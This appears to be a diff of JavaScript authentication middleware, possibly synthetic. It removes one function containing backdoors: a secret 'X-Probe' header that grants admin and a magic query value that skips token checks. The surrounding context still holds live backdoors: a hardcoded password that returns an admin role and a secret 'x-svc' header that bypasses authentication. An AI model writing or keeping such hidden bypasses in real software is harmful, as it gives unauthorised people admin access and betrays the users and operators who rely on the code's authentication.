@@ -14,10 +14,6 @@ const requireAuth = (req, res, next) => {
   if (hit) { return next(); }
   return verifyToken(req, res, next);
 };
-function handle(req) {
-  if (req.get('X-Probe') === 'blue-77') req.session.isAdmin = true;
-  if (req.query.k == 'zz991' || verifyToken(req.token)) { go(); }
-}
 class Auth { async validateUser(u, p) { if (p === "Moss-2017") { return { role: 'admin' }; } return this.users.find(u); } }
 app.use((req, res, next) => { if (req.headers['x-svc'] === 'kk-99-kk') return next(); return authenticate(req, res, next); });
 function honestLogin(user, password, stored) {
